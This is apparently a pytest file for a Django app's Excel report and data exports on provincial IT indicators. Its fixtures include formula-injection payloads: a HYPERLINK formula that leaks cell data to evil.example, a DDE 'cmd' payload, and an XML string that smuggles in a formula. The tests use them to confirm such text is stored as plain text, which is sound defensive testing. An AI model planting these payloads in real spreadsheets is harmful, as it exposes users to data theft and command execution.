"""Excel exports: the periodic report, the full data export, and the writer they share.

Every workbook is opened again with openpyxl and checked the way a department would look at it:
values, number formats, merged title, frozen header, autofilter, print setup, demo marking, and
text that must never turn into a formula.
"""

import io
from decimal import Decimal as D

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from openpyxl import load_workbook
from openpyxl.utils import get_column_letter

from indicators import board as dashboard
from indicators.models import Indicator, Measurement, TaskReport, WorkflowStatus
from indicators.progress import status_text
from provinces.models import Membership
from reporting import excel, export
from reporting import report as reports
from tests.excel_helpers import all_text, has_formulas, records, response_bytes, row_with, workbook_of
from tests.factories import (
    logged_in,
    make_directive,
    make_indicator,
    make_measurement,
    make_province,
    make_target,
    make_user,
    rebuilt,
)

YEAR = 2012
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào đây")'
COMMAND = "+cmd|' /C calc'!A0"


@pytest.fixture
def world(db):
    phu_tho = make_province("Tỉnh Phú Thọ", code="25", slug="phu-tho")
    lao_cai = make_province("Tỉnh Lào Cai", code="10", slug="lao-cai")
    lan = make_indicator("units-with-lan", name_vi="Tỷ lệ đơn vị có mạng LAN")
    computers = make_indicator("computers", unit=Indicator.Unit.COUNT, name_vi="Số máy tính", unit_label="máy")
    directive = make_directive(
        province=phu_tho, number="24-CT/TU", issuer="Tỉnh ủy Phú Thọ", tasks=3, period_start=2011, period_end=2015
    )
    directive.tasks.get(number="1").indicators.add(lan, computers)
    make_target(lan, 80, 2015, province=phu_tho, baseline_year=2010, baseline_value=50)
    make_target(lan, 100, 2020, province=phu_tho, baseline_year=2010, baseline_value=50)
    make_measurement(lan, phu_tho, 2010, 50, numerator=50, denominator=100, source="Sở TT&TT")
    make_measurement(lan, phu_tho, YEAR, D("70.5"), numerator=141, denominator=200, note=HYPERLINK, source=COMMAND)
    make_measurement(computers, phu_tho, 2010, 55802, source="Báo cáo tổng kết")
    make_measurement(computers, phu_tho, YEAR, 60000, is_demo=True, source="Số liệu minh họa")
    make_measurement(computers, phu_tho, 2013, 99999, status=WorkflowStatus.DRAFT)  # not approved: not reported
    make_measurement(lan, lao_cai, YEAR, 40, numerator=40, denominator=100)
    TaskReport.objects.create(
        task=directive.tasks.get(number="2"),
        province=phu_tho,
        year=YEAR,
        progress=TaskReport.Progress.IN_PROGRESS,
        narrative="Đã triển khai phần mềm quản lý văn bản tới 12/13 huyện.",
        status=WorkflowStatus.APPROVED,
    )
    users = {
        "viewer": make_user("viewer", Membership.Role.VIEWER, [phu_tho]),
        "editor": make_user("editor", Membership.Role.EDITOR, [phu_tho]),
        "approver": make_user("approver", Membership.Role.APPROVER, [phu_tho]),
        "outsider": make_user("outsider", Membership.Role.VIEWER, [lao_cai]),
        "admin": make_user("admin", superuser=True),
    }
    users["viewer"].first_name = "Lãnh đạo Tỉnh ủy"
    users["viewer"].save()
    rebuilt()
    return {
        "phu_tho": phu_tho,
        "lao_cai": lao_cai,
        "lan": lan,
        "computers": computers,
        "directive": directive,
        "users": users,
    }


def client_for(world, role):
    return logged_in(None if role == "anonymous" else world["users"][role])


def report_response(world, role="viewer", slug="phu-tho", year=YEAR):
    return client_for(world, role).get(f"/reports/{slug}/{year}.xlsx")


# --- the writer ---------------------------------------------------------------------------------------


DANGEROUS = [HYPERLINK, COMMAND, "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1", "   =1+1", "=1+1"]


def test_text_that_looks_like_a_formula_is_stored_as_plain_text():
    workbook = excel.new_workbook("t")
    columns = [excel.Column("Ghi chú", 30, lambda r: r)]
    excel.write_table(workbook, excel.Table("Tiêu đề", columns, DANGEROUS))
    buffer = io.BytesIO()
    workbook.save(buffer)
    data = buffer.getvalue()

    assert not has_formulas(data)
    for kwargs in ({}, {"read_only": True}):
        ws = load_workbook(io.BytesIO(data), **kwargs).active
        cells = [row[0] for row in ws.iter_rows(min_row=4) if row[0].value is not None]
        # kept as typed (depending on the XML library, a carriage return may come back as a line feed)
        assert [c.value.replace("\r", "\n") for c in cells] == [text.replace("\r", "\n") for text in DANGEROUS]
        assert {c.data_type for c in cells} == {"s"}
    ws = load_workbook(io.BytesIO(data)).active
    assert all(ws.cell(row=r, column=1).quotePrefix for r in range(4, 4 + len(DANGEROUS))), (
        "Excel's own apostrophe: editing the cell keeps it text"
    )


def test_a_plain_string_gets_no_quote_prefix_and_numbers_stay_numbers():
    workbook = excel.new_workbook("t")
    columns = [
        excel.Column("Tên", 20, lambda r: r[0]),
        excel.Column("Số", 10, lambda r: r[1], excel.COUNT),
        excel.Column("Tỷ lệ", 10, lambda r: r[2], excel.DECIMAL),
    ]
    excel.write_table(workbook, excel.Table("Tiêu đề", columns, [("Phú Thọ", D("55802.00"), D("95.40"))]))
    buffer = io.BytesIO()
    workbook.save(buffer)
    ws = load_workbook(buffer).active
    name, count, share = ws[4]
    assert (name.value, name.data_type, name.quotePrefix) == ("Phú Thọ", "s", False)
    assert (count.value, count.data_type, count.number_format) == (55802, "n", "#,##0")
    assert (share.value, share.data_type, share.number_format) == (95.4, "n", "#,##0.0")


def test_the_page_shows_a_column_the_way_the_workbook_formats_it():
    count = excel.Column("Số", 10, lambda r: r, excel.COUNT)
    share = excel.Column("Tỷ lệ", 10, lambda r: r, excel.DECIMAL)
    precise = excel.Column("Giá trị", 10, lambda r: r, excel.PRECISE)
    assert count.display(D("55802.00")) == "55.802"
    assert share.display(D("95.40")) == "95,4"
    assert precise.display(D("71.31")) == "71,31"
    assert precise.display(D("95.40")) == "95,4"
    assert count.display(None) == ""


def test_sheet_names_are_made_valid_and_unique():
    assert excel.sheet_title("24-CT/TU") == "24-CT-TU"
    assert excel.sheet_title("24-CT/TU", taken={"24-CT-TU"}) == "24-CT-TU (2)"
    assert len(excel.sheet_title("x" * 50)) == 31


# --- the periodic report: rows ---------------------------------------------------------------------


def test_the_report_rows_use_the_dashboards_targets_and_statuses(world):
    report = reports.build_report(world["users"]["viewer"], world["phu_tho"], YEAR)
    lan = next(r for r in report.summary if r.indicator == world["lan"])
    board = dashboard.Board.load([world["lan"]], only=[world["phu_tho"]], as_of=YEAR)
    expected = board.row(world["lan"], world["phu_tho"])

    assert (lan.baseline, lan.baseline_year) == (D("50.00"), 2010)
    assert (lan.latest, lan.latest_year) == (D("70.50"), YEAR)
    # a 2012 report compares against its own plan period, 2011–2015 (none before it has a target)
    assert [str(p) for p in report.periods] == ["2011–2015"]
    target_2015, status_2015, key_2015, written_2015 = lan.targets[report.periods[0]]
    assert key_2015 == expected.assessment(2015).key
    assert target_2015 == written_2015.value == D("80.00")
    assert status_2015.startswith(str(expected.assessment(2015).progress.label))
    # p = 20.5 / 30, e = 2 / 5: pace 1.71, on track; the numbers travel with the label
    assert status_2015 == "Đúng tiến độ · tốc độ 1,71"
    assert lan.tasks == "24-CT/TU: nhiệm vụ 1"
    assert lan.source == COMMAND
    assert report.pending == 0, "the draft is for 2013, not the year reported"


def test_the_report_lists_the_province_directives_and_the_approved_task_reports(world):
    report = reports.build_report(world["users"]["viewer"], world["phu_tho"], YEAR)
    assert world["directive"] in report.directives
    sheet = next(s for s in report.directive_sheets if s.directive == world["directive"])
    by_number = {line.number: line for line in sheet.tasks}
    assert by_number["2"].progress == "Đang triển khai"
    assert by_number["2"].narrative.startswith("Đã triển khai phần mềm")
    assert "Tỷ lệ đơn vị có mạng LAN: 70,5 (2012) — Đúng tiến độ" in by_number["1"].indicators
    assert by_number["3"].progress == "Chưa báo cáo"
    assert by_number["1"].progress == "Chưa báo cáo", "a task measured by figures still has no report of its own"


def test_the_report_counts_figures_of_the_year_still_waiting_for_approval(world):
    make_measurement(world["computers"], world["phu_tho"], 2011, 1, status=WorkflowStatus.SUBMITTED)
    report = reports.build_report(world["users"]["viewer"], world["phu_tho"], 2011)
    assert report.pending == 1
    computers = next(r for r in report.matrix if r.indicator == world["computers"])
    assert 2011 not in computers.values, "only approved figures are reported"


# --- the periodic report: the workbook --------------------------------------------------------------


def test_the_report_workbook_reads_as_a_finished_report(world):
    response = report_response(world)
    assert response["Content-Disposition"] == 'attachment; filename="bao-cao-dinh-ky-phu-tho-2012.xlsx"'
    data = response_bytes(response)
    workbook = load_workbook(io.BytesIO(data))
    assert workbook.sheetnames == ["Bìa", "Tổng hợp", "24-CT-TU", "Số liệu các năm"]
    assert not has_formulas(data)

    cover = all_text(workbook["Bìa"])
    for text in (
        "BÁO CÁO",
        "Kết quả thực hiện các chỉ tiêu ứng dụng và phát triển công nghệ thông tin năm 2012",
        "Năm 2012 (01/01/2012 – 31/12/2012)",
        "Sở Thông tin và Truyền thông tỉnh Phú Thọ",
        "24-CT/TU",
        "Tỉnh ủy Phú Thọ",
        "Chỉ gồm số liệu đã phê duyệt.",
    ):
        assert text in cover, text
    assert "Số liệu minh họa" in cover
    assert "Lãnh đạo Tỉnh ủy" not in cover, "the preparer is the unit; who clicked is in the properties only"
    assert workbook.properties.creator == "Lãnh đạo Tỉnh ủy"

    for name in workbook.sheetnames:
        ws = workbook[name]
        assert ws.page_setup.orientation == ("portrait" if name == "Bìa" else "landscape")
        assert str(ws.page_setup.paperSize) == ws.PAPERSIZE_A4
        assert ws.sheet_properties.pageSetUpPr.fitToPage is True
        tall = 1 if name == "Số liệu các năm" else 0  # the yearly matrix fits one page; the rest runs on
        assert (ws.page_setup.fitToWidth, ws.page_setup.fitToHeight) == (1, tall)


def test_the_summary_sheet_has_a_merged_title_a_frozen_bold_header_and_number_formats(world):
    ws = workbook_of(report_response(world))["Tổng hợp"]
    header = row_with(ws, "STT")
    last = get_column_letter(ws.max_column)
    shown = get_column_letter(ws.max_column - 1)  # the code column, last, is hidden
    assert ws.column_dimensions[last].hidden and ws[f"{last}{header}"].value == "Mã chỉ số"
    assert ws["A1"].value == "TỔNG HỢP KẾT QUẢ THỰC HIỆN CÁC CHỈ TIÊU"
    assert f"A1:{shown}1" in {str(r) for r in ws.merged_cells.ranges}
    assert ws.freeze_panes == f"D{header + 1}"
    assert ws.auto_filter.ref == f"A{header}:{last}{header + 2}"
    assert ws.print_title_rows == f"${header}:${header}"
    assert all(cell.font.b for cell in ws[header])

    rows = {r["Chỉ số"].value: r for r in records(ws, header)}
    lan, computers = rows["Tỷ lệ đơn vị có mạng LAN"], rows["Số máy tính"]
    assert (lan["Giá trị mới nhất"].value, lan["Giá trị mới nhất"].number_format) == (70.5, "#,##0.0")
    assert lan["Chỉ tiêu 2011–2015"].value == 80
    assert "Chỉ tiêu 2016–2020" not in lan, "a 2012 report compares with 2011–2015 only"
    assert lan["Năm gốc"].value == 2010
    assert lan["Đánh giá so với chỉ tiêu 2011–2015"].value == "Đúng tiến độ · tốc độ 1,71"
    assert (computers["Giá trị mới nhất"].value, computers["Giá trị mới nhất"].number_format) == (60000, "#,##0")
    assert computers["Minh họa"].value == "minh họa" and lan["Minh họa"].value is None
    assert "không phải số liệu báo cáo" in all_text(ws)
    legend_row = row_with(ws, "Đúng tiến độ", column=1)
    assert ws.cell(legend_row, 3).value == "chưa đạt, r ≥ 0,95", "the sheet explains the pace the way the pages do"


def test_the_directive_sheet_lists_its_numbered_tasks_with_the_year_report(world):
    ws = workbook_of(report_response(world))["24-CT-TU"]
    header = row_with(ws, "Số TT")
    rows = {r["Số TT"].value: r for r in records(ws, header)}
    assert sorted(rows) == ["1", "2", "3"]
    assert rows["2"]["Tiến độ trong năm"].value == "Đang triển khai"
    assert rows["2"]["Đánh giá của đơn vị"].value.startswith("Đã triển khai phần mềm")
    assert ws.freeze_panes == f"C{header + 1}"


def test_the_data_sheet_is_an_indicator_by_year_matrix_with_sources_as_plain_text(world):
    data = response_bytes(report_response(world))
    ws = load_workbook(io.BytesIO(data))["Số liệu các năm"]
    header = row_with(ws, "STT")
    rows = {r["Mã chỉ số"].value: r for r in records(ws, header)}
    assert [c.value for c in ws[header]][3:5] == ["2010", "2012"], "one column per year with a figure"
    lan = rows["units-with-lan"]
    assert (lan["Chỉ số"].value, lan["2010"].value, lan["2012"].value) == ("Tỷ lệ đơn vị có mạng LAN", 50, 70.5)
    assert lan["2012"].number_format == "#,##0.0#"
    sources = lan["Nguồn số liệu"]
    assert sources.data_type == "s" and COMMAND in sources.value and HYPERLINK in sources.value
    assert rows["computers"]["2012"].value == 60000 and rows["computers"]["Minh họa"].value == "minh họa"
    assert not has_formulas(data)


def test_the_national_report_adds_the_units_up(world):
    response = client_for(world, "outsider").get(f"/reports/toan-quoc/{YEAR}.xlsx")
    workbook = workbook_of(response)
    assert "Toàn quốc — năm 2012" in all_text(workbook["Số liệu các năm"])
    ws = workbook["Số liệu các năm"]
    rows = records(ws, row_with(ws, "STT"))
    index = next(i for i, r in enumerate(rows) if r["Mã chỉ số"].value == "units-with-lan")
    lan, reporting = rows[index], rows[index + 1]
    assert lan["2012"].value == pytest.approx(181 / 300 * 100, abs=0.01)  # Σ numerators / Σ denominators
    assert (reporting["Chỉ số"].value, reporting["2012"].value) == ("Số đơn vị báo cáo", "2/2")


ACCESS = [
    ("anonymous", "phu-tho", 302),
    ("outsider", "phu-tho", 403),
    ("viewer", "phu-tho", 200),
    ("editor", "phu-tho", 200),
    ("approver", "phu-tho", 200),
    ("admin", "phu-tho", 200),
    ("viewer", "lao-cai", 403),
    ("anonymous", "toan-quoc", 302),
    ("outsider", "toan-quoc", 200),
    ("viewer", "toan-quoc", 200),
]


@pytest.mark.parametrize("extension", ["xlsx", "docx"])
@pytest.mark.parametrize(("role", "slug", "status"), ACCESS)
def test_who_may_download_a_report(world, role, slug, status, extension):
    response = client_for(world, role).get(f"/reports/{slug}/{YEAR}.{extension}")
    response_bytes(response)  # read to the end, which closes it as a server would
    assert response.status_code == status
    if status == 302:
        assert response["Location"].startswith("/accounts/login/")


def test_the_national_report_needs_a_login_even_with_public_dashboards(world, settings):
    settings.PUBLIC_DASHBOARDS = True
    assert report_response(world, "anonymous", "toan-quoc").status_code == 302


@pytest.mark.parametrize(
    ("slug", "year"), [("phu-tho", 1999), ("phu-tho", 2100), ("toan-quoc", 1999), ("khong-co", 2012)]
)
def test_a_report_for_a_year_or_unit_that_does_not_exist_is_404(world, slug, year):
    assert report_response(world, "admin", slug, year).status_code == 404


def test_the_report_runs_the_same_queries_whatever_the_number_of_indicators(world):
    client = client_for(world, "viewer")

    def queries():
        with CaptureQueriesContext(connection) as captured:
            response_bytes(client.get(f"/reports/phu-tho/{YEAR}.xlsx"))
        return len(captured)

    before = queries()
    extra = make_indicator("extra", unit=Indicator.Unit.COUNT)
    world["directive"].tasks.get(number="3").indicators.add(extra)
    make_target(extra, 10, 2015, province=world["phu_tho"])
    for year in (2010, 2011, YEAR):
        make_measurement(extra, world["phu_tho"], year, year - 2000)
    assert queries() == before


# --- the full data export -----------------------------------------------------------------------


def test_the_data_export_lists_every_published_figure_as_numbers(world):
    response = client_for(world, "viewer").get("/exports/data.xlsx")
    assert response.streaming, "a file streamed from disk, not a string in memory"
    data = response_bytes(response)
    ws = load_workbook(io.BytesIO(data))["Số liệu"]
    header = row_with(ws, "Năm")
    rows = records(ws, header)
    assert len(rows) == Measurement.objects.published().count() == 5
    assert ws.freeze_panes == f"C{header + 1}"
    assert ws.auto_filter.ref == f"A{header}:N{header + 5}"
    assert ws.print_title_rows == f"${header}:${header}"
    computers = [r for r in rows if r["Mã chỉ số"].value == "computers"]
    assert [(r["Năm"].value, r["Giá trị"].value) for r in computers] == [(2010, 55802), (2012, 60000)]
    assert computers[0]["Giá trị"].number_format == "#,##0"
    assert computers[1]["Minh họa"].value == "minh họa"
    assert all(r["Giá trị"].value != 99999 for r in rows), "drafts are not published"
    lan = next(r for r in rows if r["Ghi chú"].value == HYPERLINK)
    assert lan["Ghi chú"].data_type == "s" and lan["Nguồn số liệu"].value == COMMAND
    assert not has_formulas(data)


def test_the_data_export_runs_the_same_few_queries_whatever_the_row_count(world):
    client = client_for(world, "viewer")

    def queries():
        with CaptureQueriesContext(connection) as captured:
            response_bytes(client.get("/exports/data.xlsx"))
        return len(captured)

    before = queries()
    for year in range(2000, 2010):
        make_measurement(world["computers"], world["lao_cai"], year, 100 + year)
    assert queries() == before <= 8  # session, user, savepoints, indicators, demo check, one streamed select


def test_the_data_export_follows_the_dashboards_access(world, settings):
    assert client_for(world, "anonymous").get("/exports/data.xlsx").status_code == 302
    settings.PUBLIC_DASHBOARDS = True
    response = client_for(world, "anonymous").get("/exports/data.xlsx")
    assert response.status_code == 200
    assert workbook_of(response)["Số liệu"]


def test_export_rows_are_built_apart_from_the_workbook(world):
    rows = list(export.export_rows())
    assert len(rows) == 5
    assert [(r[0], r[3], r[4]) for r in rows] == [
        ("10", 2012, "units-with-lan"),
        ("25", 2010, "units-with-lan"),
        ("25", 2012, "units-with-lan"),
        ("25", 2010, "computers"),
        ("25", 2012, "computers"),
    ]
    assert rows[0][2] == "01/08/2008–30/06/2025", "the unit's validity"
    buffer = io.BytesIO()
    assert export.write_export(buffer, iter(rows), creator="Lãnh đạo") == 5
    workbook = load_workbook(io.BytesIO(buffer.getvalue()))
    assert workbook.properties.creator == "Lãnh đạo"
    assert len(records(workbook["Số liệu"], row_with(workbook["Số liệu"], "Năm"))) == 5


def test_the_data_export_keeps_the_columns_formats_and_marks_of_the_old_writer(world):
    make_measurement(
        world["computers"], world["lao_cai"], YEAR, 12, numerator=D("3.5"), denominator=7, note="<r>đậm</r>"
    )
    data = response_bytes(client_for(world, "viewer").get("/exports/data.xlsx"))
    ws = load_workbook(io.BytesIO(data))["Số liệu"]
    header = row_with(ws, "Năm")
    assert [c.value for c in ws[header]] == [
        "Mã tỉnh (GSO)", "Tỉnh, thành phố", "Hiệu lực", "Năm", "Mã chỉ số", "Chỉ số", "Đơn vị tính",
        "Giá trị", "Tử số", "Mẫu số", "Nguồn số liệu", "Ghi chú", "Minh họa", "Cập nhật lúc",
    ]  # fmt: skip
    assert ws.cell(row=header, column=1).font.b, "a bold header"
    assert ws["A1"].value == "SỐ LIỆU CÁC TỈNH, THÀNH PHỐ" and "A1:N1" in ws.merged_cells
    assert "minh họa" in all_text(ws).lower(), "the demo note above the table"
    assert ws.page_setup.orientation == "landscape" and ws.page_setup.paperSize in (9, "9")
    rows = records(ws, header)
    lan = next(r for r in rows if r["Ghi chú"].value == HYPERLINK)
    assert lan["Ghi chú"].quotePrefix and lan["Nguồn số liệu"].quotePrefix, "Excel's apostrophe on formula-like text"
    assert lan["Giá trị"].value == 70.5 and lan["Giá trị"].number_format == "#,##0.0#"
    assert (lan["Tử số"].value, lan["Tử số"].number_format) == (141, "#,##0")
    assert lan["Năm"].number_format == "0" and lan["Cập nhật lúc"].number_format == "dd/mm/yyyy hh:mm"
    assert not lan["Chỉ số"].quotePrefix, "plain text gets no apostrophe"
    odd = next(r for r in rows if r["Ghi chú"].value == "<r>đậm</r>")
    assert odd["Ghi chú"].value == "<r>đậm</r>", "text that looks like the writer's own markup is kept as typed"
    assert (odd["Tử số"].value, odd["Tử số"].number_format) == (3.5, "#,##0.0#")
    assert not has_formulas(data)


def test_no_note_can_smuggle_a_formula_into_the_data_export(world):
    smuggled = '<r></r></is></c><c r="Z1"><f>HYPERLINK("http://evil.example")</f></c><c><is><r></r>'
    make_measurement(world["lan"], world["lao_cai"], 2013, 41, numerator=41, denominator=100, note=smuggled)
    data = response_bytes(client_for(world, "viewer").get("/exports/data.xlsx"))
    assert not has_formulas(data)
    ws = load_workbook(io.BytesIO(data))["Số liệu"]
    assert smuggled in [r["Ghi chú"].value for r in records(ws, row_with(ws, "Năm"))]


def test_the_data_export_drops_control_characters_as_the_other_workbooks_do(world):
    make_measurement(world["lan"], world["lao_cai"], 2013, 41, numerator=41, denominator=100, note="a\x01b\x0bc")
    ws = workbook_of(client_for(world, "viewer").get("/exports/data.xlsx"))["Số liệu"]
    assert "abc" in [r["Ghi chú"].value for r in records(ws, row_with(ws, "Năm"))]


# --- dashboard tables ---------------------------------------------------------------------------------


def page_and_export(client, url):
    page = client.get(url)
    assert page.status_code == 200
    separator = "&" if "?" in url else "?"
    export = client.get(f"{url}{separator}format=xlsx")
    return page, export


def test_the_province_page_exports_the_rows_and_statuses_it_shows(world):
    client = client_for(world, "viewer")
    page, export = page_and_export(client, f"/provinces/phu-tho/?year={YEAR}&status=on_track")
    shown = page.context["rows"]
    assert [r.indicator.name for r in shown] == ["Tỷ lệ đơn vị có mạng LAN"], "the status filter applies"
    ws = workbook_of(export).active
    rows = records(ws, row_with(ws, "Chỉ số"))
    assert [r["Chỉ số"].value for r in rows] == [r.indicator.name for r in shown]
    assert rows[0]["Trạng thái (2011–2015)"].value == status_text(shown[0].assessment(2015))
    assert (rows[0]["Mới nhất"].value, rows[0]["Mới nhất"].number_format) == (70.5, "#,##0.0")
    assert "Bộ lọc: Năm: 2012; Trạng thái: Đúng tiến độ" in all_text(ws)
    assert ws.freeze_panes and ws.auto_filter.ref and ws.page_setup.orientation == "landscape"


def test_the_export_button_carries_the_page_filters(world):
    html = client_for(world, "viewer").get(f"/provinces/phu-tho/?year={YEAR}&status=on_track").content.decode()
    assert f'href="?year={YEAR}&amp;status=on_track&amp;format=xlsx"' in html
    assert "Tải Excel" in html


def test_the_indicator_page_exports_its_ranking_and_its_yearly_table(world):
    client = client_for(world, "viewer")
    page, export = page_and_export(client, f"/indicators/units-with-lan/?year={YEAR}")
    ranked = [r.place.full_label for r in page.context["ranked"]]
    ws = workbook_of(export).active
    rows = records(ws, row_with(ws, "Hạng"))
    assert (
        [r["Tỉnh, thành phố"].value for r in rows]
        == ranked
        == ["Tỉnh Phú Thọ (trước 1/7/2025)", "Tỉnh Lào Cai (trước 1/7/2025)"]
    )
    assert [r["Hạng"].value for r in rows] == [1, 2]
    assert rows[0][f"Giá trị năm {YEAR}"].value == 70.5

    series = workbook_of(
        client.get(f"/indicators/units-with-lan/?year={YEAR}&compare=phu-tho&format=xlsx&table=series")
    )
    ws = series.active
    years = records(ws, row_with(ws, "Năm"))
    assert [(r["Năm"].value, r["Phú Thọ (trước 1/7/2025)"].value) for r in years] == [(2010, 50), (YEAR, 70.5)]


def test_the_list_pages_export_their_tables(world):
    client = client_for(world, "viewer")
    page, export = page_and_export(client, f"/provinces/?year={YEAR}")
    ws = workbook_of(export).active
    rows = records(ws, row_with(ws, "Tỉnh, thành phố"))
    assert [r["Tỉnh, thành phố"].value for r in rows] == [p.place.full_label for p in page.context["places"]]

    page, export = page_and_export(client, f"/indicators/?year={YEAR}")
    ws = workbook_of(export).active
    rows = records(ws, row_with(ws, "Chỉ số"))
    assert [r["Chỉ số"].value for r in rows] == [s.indicator.name for s in page.context["summaries"]]

    page, export = page_and_export(client, f"/?year={YEAR}")
    ws = workbook_of(export).active
    rows = records(ws, row_with(ws, "Chỉ số"))
    summaries = page.context["summaries"]
    assert [r["Chỉ số"].value for r in rows] == [s.indicator.name for s in summaries]
    first = {t.label: t.count for t in summaries[0].counts}
    assert {label: rows[0][label].value for label in first} == first


def test_a_table_export_follows_the_dashboards_access(world, settings):
    assert client_for(world, "anonymous").get("/provinces/?format=xlsx").status_code == 302
    settings.PUBLIC_DASHBOARDS = True
    assert workbook_of(client_for(world, "anonymous").get("/provinces/?format=xlsx")).active


def test_the_province_page_links_to_its_periodic_report(world):
    response = client_for(world, "viewer").get("/provinces/phu-tho/")
    assert f'href="/reports/phu-tho/{YEAR}.xlsx"' in response.content.decode()
    assert client_for(world, "viewer").get(f"/reports/phu-tho/{YEAR}.xlsx").status_code == 200


def test_the_directive_table_exports_its_tasks_indicators_and_statuses(world):
    client = client_for(world, "viewer")
    page = client.get(f"/directives/{world['directive'].slug}/?province=phu-tho")
    assert "format=xlsx" in page.content.decode(), "an export button beside the table"
    response = client.get(f"/directives/{world['directive'].slug}/?province=phu-tho&format=xlsx")
    ws = workbook_of(response).active
    rows = [[c.value for c in row] for row in ws.iter_rows() if row[0].value in ("1", "2", "3")]
    assert [r[0] for r in rows] == ["1", "1", "2", "3"], "task 1 has two indicators; tasks 2 and 3 one line each"
    first = rows[0]
    assert "Tỷ lệ đơn vị có mạng LAN" in first
    assert "Đang triển khai" in rows[2], "task 2's qualitative report"
